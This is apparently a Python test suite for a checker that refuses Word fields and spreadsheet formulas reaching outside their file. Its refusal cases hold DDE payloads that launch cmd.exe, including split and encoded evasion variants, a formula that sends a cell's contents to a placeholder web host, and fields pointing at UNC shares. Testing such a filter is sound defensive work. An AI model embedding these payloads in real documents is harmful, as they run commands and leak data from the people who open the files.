"""Fields and formulas that reach out of their file (SECURITY 58)."""

from __future__ import annotations

import pytest

from app.domain.refusals import FileRefused
from app.evidence.fields import check_fields

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def field(*pieces: str) -> bytes:
    """A field of Word, its instruction in so many pieces."""
    inside = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:p {WORD}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inside}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ).encode()


def formula(text: str) -> bytes:
    return f"<worksheet><sheetData><c><f>{text}</f></c></sheetData></worksheet>".encode()


@pytest.mark.parametrize(
    "part",
    [
        field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        field(" D", "DEAU", "TO c:\\cmd.exe"),
        field(" &#68;DE a b"),
        field(' INCLUDETEXT "a.docx"'),
        field(' INCLUDEPICTURE "\\\\host\\share\\a.png" \\d'),
        field(' HYPERLINK "file://host/share/a"'),
        f'<w:p {WORD}><w:fldSimple w:instr=" LINK Excel.Sheet a"/></w:p>'.encode(),
        f'<w:p {WORD}><w:fldSimple w:instr="dde a b"/></w:p>'.encode("utf-16"),
        formula('WEBSERVICE("https://example.invalid/"&amp;A1)'),
        formula('_xlfn.IMAGE("https://example.invalid/a.png")'),
        formula("cmd|'/c calc'!A0"),
        formula('RTD("a",,"b")'),
        formula('HYPERLINK("\\\\host\\share")'),
    ],
)
def test_security_58_what_reaches_out_is_refused_and_named(part: bytes) -> None:
    with pytest.raises(FileRefused, match="请"):
        check_fields([part[:40], part[40:]])


@pytest.mark.parametrize(
    "part",
    [
        field(" PAGE "),
        field(' TOC \\o "1-3" \\h'),
        field(' HYPERLINK "https://example.invalid/"'),
        field(' INCLUDEPICTURE "https://example.invalid/a.png" \\* MERGEFORMATINET'),  # as pasted from a page
        field(' INCLUDEPICTURE "C:\\Temp\\a.png"'),
        formula("SUM(A1:A9)"),
        formula('IF(A1&gt;"a|b!","x","y")'),
        formula('HYPERLINK("https://example.invalid/")'),
        b"<w:p>not well formed",
    ],
)
def test_what_people_write_is_taken(part: bytes) -> None:
    check_fields([part])
